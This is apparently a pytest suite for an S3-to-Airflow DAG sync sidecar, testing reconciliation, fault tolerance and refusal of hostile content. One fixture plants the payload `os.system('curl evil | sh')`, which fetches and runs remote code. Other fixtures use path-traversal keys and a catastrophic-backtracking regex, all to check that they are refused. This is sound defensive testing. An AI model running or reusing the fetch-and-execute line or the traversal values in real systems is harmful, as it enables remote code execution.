"""The sync sidecar against a real moto S3 over HTTP: reconcile, fail-static, hostile content.

Fine-grained behaviour drives the reconciler in-process; tests/test_sync_process.py runs the real
``airflow-dag-sync`` binary. A watcher thread checks every test's dags folder continuously: no
partial file, no stub without its manifest, no non-canonical ``.py``, ever.
"""

from __future__ import annotations

import contextlib
import copy
import hashlib
import io
import json
import os
import random
import shutil
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import boto3
import pytest

from dagfactory_s3 import s3 as s3support
from dagfactory_s3 import stub
from dagfactory_s3.release import FileEntry, Release
from dagfactory_s3.sync.observe import Log, Metrics
from dagfactory_s3.sync.reconcile import Reconciler
from dagfactory_s3.sync.state import STATE_FILE

from conftest import EXAMPLES, unstamped

ENV = "dev"


# -- the world: publishing to S3 the way the publisher does ------------------------------------


def example_files() -> dict[str, dict[str, bytes]]:
    """{package: {file name: bytes}} of examples/packages."""
    return {
        pkg.name: {f.name: f.read_bytes() for f in sorted((pkg / "airflow_dags").iterdir())}
        for pkg in sorted(EXAMPLES.iterdir())
    }


def manifest(
    package: str, name: str, *, description: str = "generated for a sync test", **changes: object
) -> bytes:
    """A valid manifest ``<package>_<name>`` (from the pipeline example), with top-level ``changes``."""
    doc = json.loads(example_files()["pipeline_processing"]["pipeline_processing_example_job.json"])
    doc.update(package=package, dag_id=f"{package}_{name}", description=description, tags=[package])
    doc.update(changes)
    return json.dumps(doc, indent=2).encode()


class World:
    """Writes straight to moto (not through the counting proxy) and remembers every byte published."""

    def __init__(self, s3, bucket: str) -> None:
        self.s3 = s3
        self.bucket = bucket
        self.client = boto3.client("s3", endpoint_url=s3.upstream)
        self.published: set[bytes] = set()
        self.release_no = 0

    def put(self, key: str, data: bytes) -> None:
        self.published.add(data)
        self.client.put_object(Bucket=self.bucket, Key=key, Body=data)

    def delete(self, key: str) -> None:
        self.client.delete_object(Bucket=self.bucket, Key=key)

    def all_keys(self) -> list[str]:
        pages = self.client.get_paginator("list_objects_v2").paginate(Bucket=self.bucket)
        return [o["Key"] for page in pages for o in page.get("Contents", [])]

    def mirror(self, package: str, files: dict[str, bytes]) -> None:
        """Upload files as ``aws s3 sync`` would: no release record."""
        for name, data in files.items():
            self.put(f"{ENV}/{package}/dags/{name}", data)

    def record(self, package: str, files: dict[str, bytes], *, tombstone: bool = False) -> Release:
        self.release_no += 1
        entries = {f"dags/{n}": FileEntry(hashlib.sha256(d).hexdigest(), len(d)) for n, d in files.items()}
        return Release(
            package,
            ENV,
            f"r{self.release_no}",
            "2024-06-01T00:00:00Z",
            "test",
            files=entries,
            tombstone=tombstone,
        )

    def release(
        self,
        package: str,
        files: dict[str, bytes],
        *,
        upload: bool = True,
        tombstone: bool = False,
        with_stubs: bool = True,
    ) -> Release:
        """Publish a release: files first, the record (the commit point) last. Stubs are added for manifests."""
        files = dict(files)
        if with_stubs:
            for name in [n for n in files if n.endswith(".json")]:
                files.setdefault(name[:-5] + ".py", stub.render(name))
        if upload:
            self.mirror(package, files)
        rec = self.record(package, {} if tombstone else files, tombstone=tombstone)
        self.put(f"{ENV}/{package}/metadata.json", rec.to_json())
        return rec

    def examples(self) -> None:
        """reporting_seeder as a release, pipeline_processing as a plain mirror (no metadata.json)."""
        ex = example_files()
        self.release("reporting_seeder", ex["reporting_seeder"])
        self.mirror("pipeline_processing", ex["pipeline_processing"])


class Watcher(threading.Thread):
    """Polls the dags folder; records any moment a reader could have seen a broken state."""

    def __init__(self, root: Path, world: World) -> None:
        super().__init__(daemon=True)
        self.root, self.world = root, world
        self.allow_python = False
        self.violations: list[str] = []
        self.stop = threading.Event()
        self.scans = 0

    def run(self) -> None:
        while not self.stop.is_set():
            self.scan()
            self.scans += 1
            time.sleep(0.002)

    def scan(self) -> None:
        for path in list(self.root.glob("*/dags/*")):
            if path.name.startswith("."):
                continue  # temp files of atomic writes: neither .py nor a zip, Airflow never imports them
            try:
                data = path.read_bytes()
            except FileNotFoundError:
                continue
            if path.suffix == ".json" and unstamped(data) not in self.world.published:
                self.violations.append(f"partial or unknown manifest {path}")
            elif path.suffix == ".py":
                if not stub.is_canonical(path.name, data) and not self.allow_python:
                    self.violations.append(f"non-canonical python {path}")
                if (
                    stub.is_canonical(path.name, data)
                    and not path.with_suffix(".json").exists()
                    and path.exists()
                ):
                    self.violations.append(f"stub without manifest {path}")
            elif path.suffix not in (".json", ".py"):
                self.violations.append(f"unexpected file {path}")


@pytest.fixture
def world(s3, bucket) -> World:
    return World(s3, bucket)


@contextlib.contextmanager
def watching(root: Path, world: World) -> Iterator[Watcher]:
    """Watch ``root`` while the block runs; any violation seen fails the test afterwards."""
    root.mkdir(exist_ok=True)
    watch = Watcher(root, world)
    watch.start()
    try:
        yield watch
    finally:
        watch.stop.set()
        watch.join()
    watch.scan()
    assert watch.scans > 0
    assert watch.violations == []


@pytest.fixture
def watcher(tmp_path, world) -> Iterator[Watcher]:
    """Watches the dags folder for the whole test; any violation fails the test."""
    with watching(tmp_path / "dags", world) as watch:
        yield watch


@pytest.fixture
def dags(watcher) -> Path:
    """The (watched) dags folder."""
    return watcher.root


class Sidecar:
    """An in-process reconciler with its log captured as parsed JSON lines."""

    def __init__(self, world: World, root: Path, **options: object) -> None:
        self.out = io.StringIO()
        self.metrics = Metrics()
        self.world, self.root, self.options = world, root, options
        self.reconciler = self.build()

    def build(self) -> Reconciler:
        return Reconciler(
            client=s3support.client(retries=2),
            bucket=self.world.bucket,
            environment=ENV,
            dags_folder=self.root,
            state_dir=self.root / ".dagfactory-sync",
            log=Log(self.out),
            metrics=self.metrics,
            **self.options,
        )

    def restart(self) -> None:
        self.reconciler.close()
        self.reconciler = self.build()

    def cycle(self):
        return self.reconciler.cycle()

    def events(self, name: str | None = None) -> list[dict]:
        lines = [json.loads(line) for line in self.out.getvalue().splitlines()]
        return [e for e in lines if name is None or e["event"] == name]

    def served(self) -> dict[str, bytes]:
        """{"<package>/dags/<file>": bytes} of what Airflow would see."""
        return {
            str(p.relative_to(self.root)): p.read_bytes()
            for p in sorted(self.root.glob("*/dags/*"))
            if not p.name.startswith(".")
        }

    def metric(self, name: str, **labels: str) -> float:
        value = self.metrics.registry.get_sample_value(name, labels)
        return value or 0.0


@pytest.fixture
def sidecar(world, dags):
    """The reconciler; most tests here mirror packages without a record, so they opt into that."""
    side = Sidecar(world, dags, mirror_unreleased=True)
    yield side
    side.reconciler.close()


def expected_examples() -> dict[str, bytes]:
    out = {}
    for package, files in example_files().items():
        for name, data in files.items():
            out[f"{package}/dags/{name}"] = data
    return out


# -- mirror, update, delete, retire -------------------------------------------------------------


class TestReconcile:
    def test_mirrors_example_packages(self, world, sidecar):
        """A release package and a plain mirror package land as <package>/dags/ with canonical stubs."""
        world.examples()
        report = sidecar.cycle()
        assert report.complete and report.errors == 0
        assert sidecar.served() == expected_examples()
        assert {e["path"] for e in sidecar.events("add")} == set(expected_examples())

    def test_unchanged_cycle_does_no_gets(self, s3, world, sidecar):
        """A second cycle with nothing changed is one LIST and zero GETs, and writes nothing."""
        world.examples()
        sidecar.cycle()
        s3.clear()
        report = sidecar.cycle()
        assert (s3.count("LIST"), s3.count("GET"), s3.count()) == (1, 0, 1)
        assert report.status == "noop"

    def test_cold_sync_does_not_download_canonical_stubs(self, s3, world, sidecar):
        """Stubs are written by the sidecar: a cold sync GETs manifests and records only."""
        world.examples()
        sidecar.cycle()
        gets = [r.path for r in s3.requests if r.kind == "GET"]
        assert len(gets) == 4 and not any(p.endswith(".py") for p in gets)

    def test_restart_keeps_state_and_does_no_gets(self, s3, world, sidecar):
        """The state file survives a restart: the first cycle after it is a no-op."""
        world.examples()
        sidecar.cycle()
        sidecar.restart()
        s3.clear()
        assert sidecar.cycle().status == "noop"
        assert s3.count("GET") == 0

    def test_update_rewrites_manifest_and_advances_stub_mtime(self, world, sidecar, dags):
        """A new release rewrites the changed manifest and bumps its unchanged stub's mtime."""
        world.release("demo", {"demo_a.json": manifest("demo", "a"), "demo_b.json": manifest("demo", "b")})
        sidecar.cycle()
        stub_a = dags / "demo/dags/demo_a.py"
        os.utime(stub_a, (1_000_000, 1_000_000))
        os.utime(dags / "demo/dags/demo_b.py", (1_000_000, 1_000_000))
        new_a = manifest("demo", "a", description="changed")
        world.release("demo", {"demo_a.json": new_a, "demo_b.json": manifest("demo", "b")})
        sidecar.cycle()
        assert (dags / "demo/dags/demo_a.json").read_bytes() == new_a
        assert stub_a.stat().st_mtime > 1_000_000
        assert stub_a.stat().st_mtime_ns >= (dags / "demo/dags/demo_a.json").stat().st_mtime_ns
        assert (dags / "demo/dags/demo_b.py").stat().st_mtime == 1_000_000
        assert [e["path"] for e in sidecar.events("update")] == ["demo/dags/demo_a.json"]
        assert sidecar.metric("dagsync_release_info", package="demo", release_id="r2") == 1

    def test_release_dropping_a_dag_deletes_it(self, world, sidecar, dags):
        """A DAG missing from the new release is removed, stub and manifest."""
        files = {f"demo_{n}.json": manifest("demo", n) for n in "abc"}
        world.release("demo", files)
        sidecar.cycle()
        del files["demo_c.json"]
        world.release("demo", files)
        sidecar.cycle()
        assert sorted(sidecar.served()) == [f"demo/dags/demo_{n}.{e}" for n in "ab" for e in ("json", "py")]
        assert [e["path"] for e in sidecar.events("delete")] == [
            "demo/dags/demo_c.py",
            "demo/dags/demo_c.json",
        ]

    def test_mirror_delete_removes_files(self, world, sidecar):
        """Without a record, deleting objects in S3 deletes the files (the seed's --delete)."""
        world.mirror("demo", {f"demo_{n}.json": manifest("demo", n) for n in "abc"})
        sidecar.cycle()
        world.delete(f"{ENV}/demo/dags/demo_b.json")
        sidecar.cycle()
        assert sorted(sidecar.served()) == [f"demo/dags/demo_{n}.{e}" for n in "ac" for e in ("json", "py")]

    def test_retire_removes_package_and_its_directories(self, world, sidecar, dags):
        """A tombstone release removes every file of the package, even beyond the mass-delete guard."""
        world.release("big", {f"big_{n}.json": manifest("big", n) for n in "abc"})
        world.release("small", {"small_a.json": manifest("small", "a")})
        sidecar.cycle()
        world.release("big", {}, tombstone=True)
        report = sidecar.cycle()
        assert report.errors == 0
        assert sorted(sidecar.served()) == ["small/dags/small_a.json", "small/dags/small_a.py"]
        assert not (dags / "big").exists()
        assert all(e.get("retired") for e in sidecar.events("delete"))

    def test_release_record_in_history_is_ignored(self, world, sidecar):
        """The publisher's _releases/ history never reaches the dags folder."""
        world.release("demo", {"demo_a.json": manifest("demo", "a")})
        world.put(f"{ENV}/demo/_releases/r0/metadata.json", b"{}")
        world.put(f"{ENV}/demo/_releases/r0/dags/demo_old.json", manifest("demo", "old"))
        report = sidecar.cycle()
        assert sorted(sidecar.served()) == ["demo/dags/demo_a.json", "demo/dags/demo_a.py"]
        assert report.refused == 0

    def test_listing_is_paginated(self, s3, world, sidecar):
        """The listing is followed page by page (⌈N/page⌉ LIST requests) and nothing is lost."""
        sidecar.reconciler.page_size = 4
        for i in range(9):
            world.put(f"{ENV}/demo/_releases/x/{i:05}", b"")
        world.mirror("zzz", {"zzz_last.json": manifest("zzz", "last")})
        s3.clear()
        report = sidecar.cycle()
        assert s3.count("LIST") == 3 and report.listed == 10
        assert "zzz/dags/zzz_last.json" in sidecar.served()


# -- fail-static ---------------------------------------------------------------------------------


class TestFailStatic:
    def test_listing_errors_change_nothing(self, s3, world, sidecar):
        """500s on LIST: the cycle fails, nothing is written or deleted, the error is logged."""
        world.examples()
        sidecar.cycle()
        before = sidecar.served()
        world.delete(f"{ENV}/pipeline_processing/dags/pipeline_processing_example_job.json")
        s3.fault = lambda request, index: "500" if request.kind == "LIST" else None
        report = sidecar.cycle()
        assert not report.complete and report.status == "error"
        assert sidecar.served() == before
        errors = sidecar.events("error")
        assert errors[-1]["kind"] == "list" and "InternalError" in errors[-1]["error"]
        assert sidecar.metric("dagsync_errors_total", kind="list") == 1

    def test_empty_listing_deletes_nothing(self, world, sidecar):
        """S3 suddenly empty: the mass-delete guard keeps every served DAG and says how to proceed."""
        world.examples()
        sidecar.cycle()
        before = sidecar.served()
        for key in world.all_keys():
            world.delete(key)
        report = sidecar.cycle()
        assert sidecar.served() == before and report.deleted == 0
        error = sidecar.events("error")[-1]
        assert error["kind"] == "mass_delete_guard" and "tombstone" in error["error"]

    def test_a_wrong_environment_is_loud(self, world, sidecar, s3, bucket):
        """Nothing under the sidecar's environment while the bucket holds others: one warning naming
        them (not a silent "noop, listed 0"), said again only after the prefix held something."""
        import boto3

        boto3.client("s3", endpoint_url=s3.upstream).put_object(
            Bucket=bucket, Key="prod/x/metadata.json", Body=b"{}"
        )
        assert sidecar.cycle().status == "noop"
        sidecar.cycle()
        warnings = sidecar.events("empty_environment")
        assert len(warnings) == 1 and warnings[0]["environment"] == ENV
        assert warnings[0]["environments_in_bucket"] == ["prod"] and warnings[0]["level"] == "warning"

    def test_mass_delete_guard_allows_small_deletions(self, world, sidecar):
        """Deleting up to the threshold proceeds; one more than half of the DAGs is refused."""
        world.mirror("demo", {f"demo_{n}.json": manifest("demo", n) for n in "abcd"})
        sidecar.cycle()
        for n in "ab":
            world.delete(f"{ENV}/demo/dags/demo_{n}.json")
        assert sidecar.cycle().deleted == 4  # 2 of 4 DAGs: exactly 50 %
        world.mirror("demo", {f"demo_{n}.json": manifest("demo", n) for n in "ef"})
        sidecar.cycle()
        for n in "cde":
            world.delete(f"{ENV}/demo/dags/demo_{n}.json")
        report = sidecar.cycle()
        assert report.deleted == 0 and report.errors == 1

    def test_truncated_body_keeps_last_release(self, s3, world, sidecar, dags):
        """A body cut short fails the download; the last applied release stays, whole, until S3 heals."""
        old = manifest("demo", "a")
        world.release("demo", {"demo_a.json": old, "demo_b.json": manifest("demo", "b")})
        sidecar.cycle()
        new_a, new_b = manifest("demo", "a", description="v2"), manifest("demo", "b", description="v2")
        world.release("demo", {"demo_a.json": new_a, "demo_b.json": new_b})
        s3.fault = lambda request, index: "truncate" if request.path.endswith("demo_a.json") else None
        report = sidecar.cycle()
        assert not report.complete
        assert (dags / "demo/dags/demo_a.json").read_bytes() == old
        assert (dags / "demo/dags/demo_b.json").read_bytes() == manifest("demo", "b")
        s3.fault = None
        assert sidecar.cycle().complete
        assert (dags / "demo/dags/demo_a.json").read_bytes() == new_a
        assert (dags / "demo/dags/demo_b.json").read_bytes() == new_b

    def test_truncated_body_in_mirror_keeps_old_file(self, s3, world, sidecar, dags):
        """Mirror mode: a cut-short body never replaces the file; the next cycle fetches it again."""
        world.mirror("demo", {"demo_a.json": manifest("demo", "a")})
        sidecar.cycle()
        new = manifest("demo", "a", description="v2")
        world.mirror("demo", {"demo_a.json": new})
        s3.fault = lambda request, index: "truncate" if request.kind == "GET" else None
        assert not sidecar.cycle().complete
        assert (dags / "demo/dags/demo_a.json").read_bytes() == manifest("demo", "a")
        s3.fault = None
        sidecar.cycle()
        assert (dags / "demo/dags/demo_a.json").read_bytes() == new

    def test_get_errors_back_off_then_recover(self, s3, world, sidecar):
        """500s on every GET: nothing served, cycle incomplete; when S3 recovers the sync completes."""
        world.examples()
        s3.fault = lambda request, index: "500" if request.kind == "GET" else None
        report = sidecar.cycle()
        assert not report.complete and sidecar.served() == {}
        s3.fault = None
        assert sidecar.cycle().complete
        assert sidecar.served() == expected_examples()

    def test_publish_in_flight_keeps_last_release(self, world, sidecar, dags):
        """A record naming files not yet (fully) uploaded: the last release stays until they arrive."""
        world.release("demo", {"demo_a.json": manifest("demo", "a")})
        sidecar.cycle()
        v2 = {"demo_a.json": manifest("demo", "a", description="v2"), "demo_b.json": manifest("demo", "b")}
        world.release("demo", v2, upload=False)  # the record first: a publisher racing us, or a crash
        world.mirror("demo", {"demo_a.json": v2["demo_a.json"]})
        report = sidecar.cycle()
        assert report.waiting == ["demo"] and report.complete
        assert sorted(sidecar.served()) == ["demo/dags/demo_a.json", "demo/dags/demo_a.py"]
        assert (dags / "demo/dags/demo_a.json").read_bytes() == manifest("demo", "a")
        world.mirror("demo", {"demo_b.json": v2["demo_b.json"], "demo_b.py": stub.render("demo_b.json")})
        sidecar.cycle()
        assert (dags / "demo/dags/demo_a.json").read_bytes() == v2["demo_a.json"]
        assert "demo/dags/demo_b.json" in sidecar.served()
        assert len(sidecar.events("waiting")) == 1

    def test_object_overwritten_under_the_record_is_not_served(self, world, sidecar, dags):
        """Bytes whose sha256 differs from the record are never served (same size, other content)."""
        good = manifest("demo", "a", description="aaaa")
        world.release("demo", {"demo_a.json": good})
        world.put(f"{ENV}/demo/dags/demo_a.json", manifest("demo", "a", description="bbbb"))
        report = sidecar.cycle()
        assert report.waiting == ["demo"] and sidecar.served() == {}

    def test_server_stopped_mid_sync(self, s3, moto_server, world, sidecar, dags):
        """S3 dies during a cold sync: nothing half-applied; after it is back the sync completes."""
        files = {f"demo_{n}.json": manifest("demo", n) for n in "abcdef"}
        world.release("demo", files)
        world.mirror("plain", {"plain_a.json": manifest("plain", "a")})
        gets = 0

        def fault(request, index):
            nonlocal gets
            if request.kind == "GET":
                gets += 1
                if gets == 3:
                    moto_server.stop()
            return None

        s3.fault = fault
        try:
            report = sidecar.cycle()
        finally:
            s3.fault = None
            moto_server.start()
        assert not report.complete
        assert not any(k.startswith("demo/") for k in sidecar.served())  # a release is all or nothing
        world.client.create_bucket(Bucket=world.bucket)
        world.release("demo", files)
        world.mirror("plain", {"plain_a.json": manifest("plain", "a")})
        assert sidecar.cycle().complete
        assert len(sidecar.served()) == 14

    def test_crash_at_any_write_recovers(self, world, tmp_path, monkeypatch):
        """A process dying after any file write or delete (SIGKILL) restarts into the right state."""

        import dagfactory_s3.sync.reconcile as reconcile

        v1 = {f"demo_{n}.json": manifest("demo", n) for n in "abc"}
        v2 = {
            "demo_a.json": manifest("demo", "a", description="v2"),
            "demo_b.json": manifest("demo", "b"),
            "demo_d.json": manifest("demo", "d"),
        }
        real_write, real_exchange = reconcile.fs.atomic_write, reconcile.fs.exchange

        class Killed(BaseException):
            pass

        for crash_after in [0, 1, 2, 3, 4, "swap", "after-swap"]:
            root = tmp_path / f"dags-{crash_after}"
            root.mkdir()
            watch = Watcher(root, world)
            watch.start()
            world.release("demo", v1)
            world.mirror("plain", {"plain_a.json": manifest("plain", "a")})
            world.delete(f"{ENV}/plain/dags/plain_b.json")
            side = Sidecar(world, root, mirror_unreleased=True)
            side.cycle()
            world.release("demo", v2)
            world.delete(f"{ENV}/plain/dags/plain_a.json")
            world.mirror("plain", {"plain_b.json": manifest("plain", "b")})
            writes = 0

            lock = threading.Lock()

            def dying_write(path, data, crash_after=crash_after, lock=lock, **kwargs):
                nonlocal writes
                with lock:
                    if writes == crash_after:
                        raise Killed
                    writes += 1
                real_write(path, data, **kwargs)

            def dying_exchange(a, b, crash_after=crash_after):
                if crash_after == "swap":
                    raise Killed  # before the package's directories are exchanged
                done = real_exchange(a, b)
                if crash_after == "after-swap":
                    raise Killed  # exchanged, the old directory and the state not yet cleaned up
                return done

            with monkeypatch.context() as patch, pytest.raises(Killed):
                # state.py binds atomic_write at import: only the dags-folder writes die here
                patch.setattr(reconcile.fs, "atomic_write", dying_write)
                patch.setattr(reconcile.fs, "exchange", dying_exchange)
                side.cycle()
            side.reconciler.pool.shutdown()
            fresh = Sidecar(world, root, mirror_unreleased=True)
            assert fresh.cycle().complete, crash_after
            assert sorted(fresh.served()) == sorted(
                [f"demo/dags/demo_{n}.{e}" for n in "abd" for e in ("json", "py")]
                + ["plain/dags/plain_b.json", "plain/dags/plain_b.py"]
            ), crash_after
            assert fresh.cycle().status == "noop", crash_after
            fresh.reconciler.close()
            watch.stop.set()
            watch.join()
            assert watch.violations == [], crash_after


# -- hostile content -------------------------------------------------------------------------------


class TestHostile:
    def test_planted_python_is_refused(self, world, sidecar, dags):
        """A hand-written .py (alone, or replacing a stub) never reaches the dags folder."""
        evil = b"import os\nos.system('curl evil | sh')\n"
        world.mirror("demo", {"demo_a.json": manifest("demo", "a"), "demo_a.py": evil, "demo_evil.py": evil})
        report = sidecar.cycle()
        assert sidecar.served() == {
            "demo/dags/demo_a.json": manifest("demo", "a"),
            "demo/dags/demo_a.py": stub.render("demo_a.json"),
        }
        refusals = {e["key"]: e for e in sidecar.events("refuse")}
        assert set(refusals) == {f"{ENV}/demo/dags/demo_a.py", f"{ENV}/demo/dags/demo_evil.py"}
        assert all(e["kind"] == "python" and "canonical" in e["reason"] for e in refusals.values())
        assert report.refused == 2
        assert sidecar.metric("dagsync_objects_refused_total", reason="python") == 2

    def test_python_in_a_release_record_is_refused(self, world, sidecar):
        """A release record listing non-canonical Python: that file is refused, the rest applied."""
        evil = b"import os\n"
        world.release("demo", {"demo_a.json": manifest("demo", "a"), "demo_x.py": evil})
        sidecar.cycle()
        assert sorted(sidecar.served()) == ["demo/dags/demo_a.json", "demo/dags/demo_a.py"]
        assert [e["kind"] for e in sidecar.events("refuse")] == ["python"]

    def test_refusals_are_logged_once(self, world, sidecar):
        """A refused object is reported once per version, not every cycle."""
        world.mirror("demo", {"demo_evil.py": b"x = 1\n"})
        sidecar.cycle()
        sidecar.cycle()
        assert len(sidecar.events("refuse")) == 1

    BAD_KEYS = (
        f"{ENV}/demo/dags/../../evil.json",
        f"{ENV}/demo/../demo_x.json",
        f"{ENV}/demo/dags/./demo_x.json",
        f"{ENV}/demo//dags/demo_x.json",
        f"{ENV}/demo/dags/sub/demo_x.json",
        f"{ENV}/demo/dags/demo x.json",
        f"{ENV}/demo/dags/demo_x.json\\..",
        f"{ENV}/demo/dags/demo_é.json",
        f"{ENV}/Demo/dags/Demo_x.json",
        f"{ENV}/demo/dags/other_x.json",
        f"{ENV}/demo/dags/demo_x.txt",
        f"{ENV}/demo/plugins/demo_x.py",
        f"{ENV}/demo/demo_x.py",
        f"{ENV}/demo_x.py",
    )

    def test_bad_keys_are_refused(self, world, sidecar, dags):
        """Traversal, odd characters and paths outside <package>/dags/ are each refused and reported."""
        for key in self.BAD_KEYS:
            world.put(key, manifest("demo", "x"))
        world.mirror("demo", {"demo_ok.json": manifest("demo", "ok")})
        report = sidecar.cycle()
        assert sorted(sidecar.served()) == ["demo/dags/demo_ok.json", "demo/dags/demo_ok.py"]
        assert sorted(e["key"] for e in sidecar.events("refuse")) == sorted(self.BAD_KEYS)
        assert report.refused == len(self.BAD_KEYS)
        on_disk = sorted(
            p.name
            for p in dags.parent.rglob("*")
            if p.is_file() and ".dagfactory-sync" not in p.parts and p.name != ".airflowignore"
        )
        assert on_disk == ["demo_ok.json", "demo_ok.py"]

    FOREIGN: ClassVar[dict[str, tuple[bytes, str]]] = {
        "a": (manifest("other", "x"), "claims package 'other'"),
        "b": (manifest("pkg_b", "y"), "declares dag_id 'pkg_b_y'"),
        "c": (json.dumps({"package": "other", "dag_id": "other_x"}).encode(), "claims package 'other'"),
        "d": (b"PK\x05\x06" + b"\0" * 18, "not JSON text"),
        "e": (b"\xff\xfe{}", "not UTF-8"),
    }

    def test_foreign_or_binary_manifest_is_refused(self, world, sidecar):
        """A manifest claiming another package or DAG id, or not JSON text (a zip!), is refused."""
        for suffix, (content, _) in self.FOREIGN.items():
            world.mirror(f"pkg_{suffix}", {f"pkg_{suffix}_x.json": content})
        report = sidecar.cycle()
        assert sidecar.served() == {} and report.refused == len(self.FOREIGN)
        reasons = {e["package"]: e["reason"] for e in sidecar.events("refuse")}
        for suffix, (_, reason) in self.FOREIGN.items():
            assert reason in reasons[f"pkg_{suffix}"]

    def test_invalid_manifest_is_served_for_its_import_error(self, world, sidecar):
        """A correctly named manifest that fails validation is served: Airflow shows one import error."""
        bad = manifest("demo", "a", schedule="every tuesday")
        world.mirror("demo", {"demo_a.json": bad, "demo_b.json": manifest("demo", "b")})
        sidecar.cycle()
        assert sidecar.served()["demo/dags/demo_a.json"] == bad
        assert len(sidecar.served()) == 4
        warning = sidecar.events("invalid_manifest")[0]
        assert warning["key"] == f"{ENV}/demo/dags/demo_a.json" and "/schedule" in warning["error"]

    def test_past_the_check_budget_a_manifest_is_served_on_its_ownership(self, world, sidecar):
        """Serving needs only the ownership check: once a cycle has spent its budget for full checks, an
        owned manifest is served without being checked in full (Airflow shows its import error), a
        foreign one is still refused, and the cycle line counts what went unchecked."""
        sidecar.reconciler.check_budget = 0.0
        world.mirror("demo", {"demo_a.json": manifest("demo", "a", schedule="every tuesday")})
        world.mirror("pkg_c", {"pkg_c_x.json": self.FOREIGN["c"][0]})
        report = sidecar.cycle()
        assert list(sidecar.served()) == ["demo/dags/demo_a.json", "demo/dags/demo_a.py"]
        assert report.refused == 1 and not sidecar.events("invalid_manifest")
        assert sidecar.events("cycle")[-1]["unchecked"] == 2

    def test_a_stalling_pattern_stalls_nobody(self, world, sidecar, dags):
        """A param pattern that backtracks without bound (^(a+)+$ with a default that never matches) is
        refused by the rules before it is evaluated: the cycle ends, the package is served as an invalid
        manifest (Airflow shows its import error) and the other package is served."""
        params = {"p": {"type": "string", "pattern": "^(a+)+$", "default": "a" * 40 + "!"}}
        world.release("evil", {"evil_stall.json": manifest("evil", "stall", params=params)})
        world.release("good", {"good_a.json": manifest("good", "a")})
        report = sidecar.cycle()
        assert "good/dags/good_a.json" in sidecar.served() and "evil/dags/evil_stall.json" in sidecar.served()
        invalid = sidecar.events("invalid_manifest")
        assert invalid and "/params/p/pattern: pattern can take unbounded time" in invalid[0]["error"]
        assert report.errors == 0

    def test_refused_update_keeps_the_last_good_version(self, world, sidecar, dags):
        """An update that turns hostile is refused and the previously served version stays."""
        good = manifest("demo", "a")
        world.mirror("demo", {"demo_a.json": good})
        sidecar.cycle()
        world.mirror("demo", {"demo_a.json": manifest("other", "a")})
        sidecar.cycle()
        assert (dags / "demo/dags/demo_a.json").read_bytes() == good

    def test_the_longest_package_name_owns_a_dag_id(self, world, sidecar, dags):
        """Packages etl and etl_sales may both name etl_sales_load: it is etl_sales's (one owner per DAG id,
        the rule CI and the bundle apply), even though etl served it first; etl's copy is refused, naming both."""
        world.mirror("etl", {"etl_sales_load.json": manifest("etl", "sales_load")})
        sidecar.cycle()
        assert "etl/dags/etl_sales_load.json" in sidecar.served()
        world.release(
            "etl_sales",
            {
                "etl_sales_load.json": manifest("etl_sales", "load"),
                "etl_sales_other.json": manifest("etl_sales", "other"),
            },
        )
        report = sidecar.cycle()
        assert sorted(sidecar.served()) == [
            "etl_sales/dags/etl_sales_load.json",
            "etl_sales/dags/etl_sales_load.py",
            "etl_sales/dags/etl_sales_other.json",
            "etl_sales/dags/etl_sales_other.py",
        ]
        refusal = sidecar.events("refuse")[0]
        assert refusal["kind"] == "collision" and refusal["key"].startswith(f"{ENV}/etl/")
        assert "belongs to package 'etl_sales'" in refusal["reason"] and "'etl'" in refusal["reason"]
        assert report.refused == 1

    def test_simultaneous_claims_are_deterministic(self, world, sidecar):
        """Two new packages naming one DAG id in the same cycle: the longer package name owns it."""
        world.mirror("ab_c", {"ab_c_d.json": manifest("ab_c", "d")})
        world.mirror("ab", {"ab_c_d.json": manifest("ab", "c_d")})
        sidecar.cycle()
        assert sorted(sidecar.served()) == ["ab_c/dags/ab_c_d.json", "ab_c/dags/ab_c_d.py"]

    def test_record_for_another_package_is_refused(self, world, sidecar):
        """A metadata.json naming another package changes nothing and is reported as an error."""
        rec = world.record("other", {"other_a.json": manifest("other", "a")})
        world.put(f"{ENV}/demo/metadata.json", rec.to_json())
        world.mirror("demo", {"demo_a.json": manifest("demo", "a")})
        report = sidecar.cycle()
        assert sidecar.served() == {} and report.errors == 1
        assert "must be 'demo'" in sidecar.events("error")[0]["error"]

    def test_allow_python_serves_legacy_files(self, world, watcher, dags):
        """--allow-python serves hand-written .py files as they are (an explicit opt-in)."""
        watcher.allow_python = True
        legacy = b"# legacy DAG\n"
        world.mirror("demo", {"demo_legacy.py": legacy})
        side = Sidecar(world, dags, allow_python=True, mirror_unreleased=True)
        side.cycle()
        assert side.served() == {"demo/dags/demo_legacy.py": legacy}
        side.reconciler.close()


def _tampered_record(world: World, package: str, files: dict[str, bytes], **entry: object) -> bytes:
    """A release record of ``package`` whose every files entry gets ``entry``'s fields."""
    doc = json.loads(world.record(package, files).to_json())
    for item in doc["files"].values():
        item.update(entry)
    return json.dumps(doc).encode()


def plant_bad_neighbours(world: World) -> dict[str, str]:
    """Publish ``good`` and, next to it, packages whose manifests or records are broken in ways that
    crashed or stalled whole cycles before. Returns {bad package: text its log line must carry}."""
    world.release("good", {"good_a.json": manifest("good", "a")})
    world.release(
        "overflow",
        {
            "overflow_duration.json": manifest("overflow", "duration", dagrun_timeout="99999999999999d"),
            "overflow_date.json": manifest("overflow", "date", start_date="0001-01-01T00:00:00+01:00"),
        },
    )
    files = {"badversion_a.json": manifest("badversion", "a")}
    world.mirror("badversion", files)
    world.put(
        f"{ENV}/badversion/metadata.json", _tampered_record(world, "badversion", files, version_id=12345)
    )
    files = {"negsize_a.json": manifest("negsize", "a")}
    world.mirror("negsize", files)
    world.put(f"{ENV}/negsize/metadata.json", _tampered_record(world, "negsize", files, size=-1))
    world.put(f"{ENV}/noise/metadata.json", random.Random(7).randbytes(512))
    return {
        "badversion": "version_id must be a string",
        "negsize": "size must be an integer of at least 0",
        "noise": "release record is not valid JSON",
    }


class TestOneBadObjectHarmsOnlyItself:
    def test_broken_neighbours_cost_the_good_package_nothing(self, world, dags):
        """Overflowing manifests, a record with a numeric version_id, one with a negative size and random
        bytes as metadata.json: the good package is served, the cycle is complete, each bad one is named."""
        reasons = plant_bad_neighbours(world)
        side = Sidecar(world, dags)
        report = side.cycle()
        assert report.complete and not report.unservable
        assert sorted(k for k in side.served() if k.startswith("good/")) == [
            "good/dags/good_a.json",
            "good/dags/good_a.py",
        ]
        # Invalid but owned manifests are served, so Airflow shows their import error (and only theirs).
        invalid = {e["key"]: e["error"] for e in side.events("invalid_manifest")}
        assert "is too long" in invalid[f"{ENV}/overflow/dags/overflow_duration.json"]
